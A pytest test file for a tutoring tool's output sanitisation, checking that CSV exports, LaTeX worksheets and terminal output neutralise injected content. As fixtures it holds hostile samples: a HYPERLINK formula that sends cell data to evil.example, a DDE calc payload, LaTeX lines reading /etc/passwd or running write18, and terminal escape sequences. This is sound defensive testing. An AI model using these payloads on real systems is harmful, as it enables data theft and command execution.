"""What tutor writes cannot hurt whoever opens it: no CSV cell is a spreadsheet formula, no
NUL reaches a CSV, LaTeX worksheets run no command a name or title smuggles in, and no
control sequence from a file reaches the instructor's terminal."""

from __future__ import annotations

import csv
import json

import pytest

from tutor.neutralise import csv_cell, csv_text, latex_math, latex_text, terminal

from .conftest import assert_clean
from .graded_course import (RIGHT, SALT, STUDENTS, answer_file, assert_others_intact, course, grade,
                                   handed_out, invoke)

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1)", "@SUM(1, 2)",
            "-2+3", "\t=1+1", "\r=1+1", "=1+1", "-x", "+x"]
NUMBERS = ["-2", "-0.5", "+1e3", "3", "0.25", "-.5"]


def cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as stream:
        return list(csv.reader(stream))


def assert_no_formula(path) -> None:
    for row in cells(path):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or csv_cell(cell) == cell, (path, cell)
            assert "\x00" not in cell


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text.replace("\r", "\n")


@pytest.mark.parametrize("text", NUMBERS)
def test_a_plain_number_stays_a_number(text):
    assert csv_cell(text) == text


def test_nul_bytes_are_stripped_and_other_values_pass():
    assert csv_cell("2\x00x") == "2x" and csv_cell("=\x001") == "'=1"
    assert csv_cell("x\r=1+1") == "x\n=1+1" and csv_text(["a"], [["x\r=1"]]) == 'a\n"x\n=1"\n'  # a quoted cell
    assert csv_cell(0.5) == 0.5 and csv_cell(None) == "" and csv_cell("x^2") == "x^2"


def test_grades_answers_that_are_formulas_are_neutralised_in_every_csv(tmp_path, plugins):
    out = handed_out(tmp_path, plugins)
    answers = FORMULAS[:len(RIGHT)]
    answer_file(out, "s002", [("s002", exercise, answer + "\x00") for exercise, answer in zip(RIGHT, answers)])
    result, rows = grade(plugins, out, tmp_path, "--json", tmp_path / "report.json")
    assert result.exit_code == 0, result.output
    for exercise, answer in zip(RIGHT, answers):
        assert rows[("s002", exercise)]["answer"] == "'" + answer
    for name in ("grades.csv", "grades.totals.csv"):
        assert_no_formula(tmp_path / name)
    assert_no_formula(out / "answer_key.csv")
    assert_no_formula(out / "answers" / "s001.csv")
    assert_others_intact(rows, "s001", "s003")


def test_every_formula_shape_is_neutralised_in_grades_and_numbers_stay(tmp_path, plugins):
    out = handed_out(tmp_path, plugins)
    for sid in STUDENTS:
        (out / "answers" / f"{sid}.csv").unlink()
    samples = FORMULAS + NUMBERS  # in JSON lines: a CSV cell holding a line break is refused on reading
    (out / "answers" / "class.jsonl").write_text("".join(
        json.dumps({"student_id": f"t{n:02d}", "exercise": "sec-square", "answer": text}) + "\n"
        for n, text in enumerate(samples)), encoding="utf-8")
    result, rows = grade(plugins, out, tmp_path, assignment=False)
    assert_clean(result.output)
    for n, text in enumerate(samples):
        shown = rows[(f"t{n:02d}", "sec-square")]["answer"]
        assert shown == (text if text in NUMBERS else "'" + text.replace("\r", "\n")), (text, shown)
    assert_no_formula(tmp_path / "grades.csv")


def test_worksheets_run_no_latex_from_roster_names_or_the_title(tmp_path, plugins):
    names = {"s001": r"\input{/etc/passwd}", "s002": r"$\input{/etc/passwd}$", "s003": r"a\b {c} ^^5c_%"}
    out = handed_out(tmp_path, plugins, names=names)
    for sid in STUDENTS:
        tex = (out / "worksheets" / f"{sid}.tex").read_text(encoding="utf-8")
        assert r"\input{" not in tex and "^^5c" not in tex, tex
    tex = (out / "worksheets" / "s003.tex").read_text(encoding="utf-8")
    assert r"a\textbackslash{}b \{c\} \^{}\^{}5c\_\%" in tex
    result = invoke(plugins, "generate", "sec-square", "--format", "latex", "--title", r"\input{/etc/passwd} $\def$")
    assert result.exit_code == 0
    assert r"\title{\textbackslash{}input\{/etc/passwd\} \$\textbackslash{}def\$}" in result.output
    assert r"\input{" not in result.output


def test_latex_escaping_is_one_pass():
    assert latex_text("\\") == r"\textbackslash{}"  # not \textbackslash\{\}
    assert latex_text("{}") == r"\{\}"
    assert latex_text("50% & #1 ~ $x$") == r"50\% \& \#1 \~{} \$x\$"


def test_an_exercise_prompt_cannot_smuggle_tex_primitives_through_math(tmp_path):
    exercise = """
id: sec-latex
title: "Math $\\\\input{/etc/passwd}$"
topic: security-demo
variables: [x]
prompt: "Differentiate $x^2 \\\\immediate\\\\write18{id} ^^5cinput{/etc/passwd}$ with \\\\input{/etc/passwd}."
answer: {value: "diff(x^2, x)"}
"""
    plugins = course(tmp_path, exercise, "latex.yaml")
    result = invoke(plugins, "generate", "sec-latex", "--format", "latex")
    assert result.exit_code == 0, result.output
    for bad in (r"\input", r"\immediate", r"\write18", "^^5c"):
        assert bad not in result.output, result.output
    assert r"x^2" in result.output
    assert latex_math(r"\frac{1}{2} \cdot x^{2}") == r"\frac{1}{2} \cdot x^{2}"  # ordinary math is untouched


def test_control_characters_become_visible_text():
    assert terminal("a\x1b[2Jb\x9bc\u202ed\x07\tz\n") == "a\\x1b[2Jb\\x9bc\\u202ed\\x07\tz\n"


def test_a_csv_header_cannot_drive_the_terminal(tmp_path, plugins):
    out = handed_out(tmp_path, plugins)
    (out / "answers" / "s002.csv").write_text("student_id,exercise,\x1b]0;owned\x07\x1b[2Jans\x9b31m\n"
                                              "s002,sec-square,2x\n", encoding="utf-8")
    result, rows = grade(plugins, out, tmp_path)
    assert result.exit_code == 1
    assert not any(ch in result.output for ch in "\x1b\x07\x9b"), repr(result.output)
    assert "\\x1b]0;owned\\x07\\x1b[2jans\\x9b31m" in result.output  # shown, lower-cased as a column name
    assert_others_intact(rows, "s001", "s003")


def test_a_file_name_cannot_drive_the_terminal(tmp_path, plugins):
    out = handed_out(tmp_path, plugins)
    (out / "answers" / "\x1b[2Jevil.csv").write_text("nothing,here\n", encoding="utf-8")
    result, rows = grade(plugins, out, tmp_path)
    assert result.exit_code == 1
    assert "\x1b" not in result.output and "\\x1b[2Jevil.csv" in result.output
    assert_others_intact(rows, "s001", "s002", "s003")


def test_a_roster_row_cannot_drive_the_terminal(tmp_path, plugins):
    roster = tmp_path / "roster.csv"
    roster.write_text("student_id,name,email\n\x1b[2Jbad,x,y\n", encoding="utf-8")
    result = invoke(plugins, "assign", "--roster", roster, "--exercises", "sec-square", "--seed", SALT,
                    "--out", tmp_path / "hw")
    assert result.exit_code == 1
    assert "\x1b" not in result.output and "\\x1b[2Jbad" in result.output


def test_an_exercise_file_name_cannot_drive_the_terminal(tmp_path):
    plugins = course(tmp_path, "id: [\n", "\x1b[2Jbroken.yaml")
    result = invoke(plugins, "list")
    assert result.exit_code == 1
    assert "\x1b" not in result.output and "\\x1b[2Jbroken.yaml" in result.output


@pytest.mark.parametrize("command", [["show", "sec-escape"], ["quiz", "--exercise", "sec-escape"]])
def test_text_a_template_computes_cannot_drive_the_terminal(tmp_path, command):
    exercise = """
id: sec-escape
title: Escape
topic: security-demo
variables: [x]
prompt: '{{ "\\x1b[2J\\x9b31m" }}Differentiate x^2.'
hints: ['{{ "\\x1b]0;owned\\x07" }}Use the power rule.']
answer: {value: "diff(x^2, x)"}
"""
    plugins = course(tmp_path, exercise, "escape.yaml")
    result = invoke(plugins, *command, "--db", tmp_path / "p.db", input="hint\nquit\n") if command[0] == "quiz" \
        else invoke(plugins, *command)
    assert_clean(result.output)
    assert "Differentiate x^2." in result.output
    assert not any(ch in result.output for ch in "\x1b\x07\x9b"), repr(result.output)
